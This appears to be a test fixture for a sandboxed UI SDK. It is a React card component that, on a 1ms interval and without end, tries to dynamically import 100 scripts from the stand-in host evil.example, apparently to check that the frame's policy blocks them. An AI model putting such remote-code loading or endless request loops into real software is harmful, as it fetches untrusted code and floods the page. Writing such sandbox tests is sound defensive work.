import { Text } from '@comptoir/sdk'
import { createElement as h, useEffect } from 'react'

const some = Array.from({ length: 100 }, (_, at) => `https://evil.example/${at}.js`)

/** What the frame's policy refuses, a line of the console each time, without end. */
export function Card() {
  useEffect(() => {
    const timer = setInterval(() => {
      for (const address of some) import(address).catch(() => undefined)
    }, 1)
    return () => clearInterval(timer)
  }, [])
  return h(Text, null, 'drawn')
}
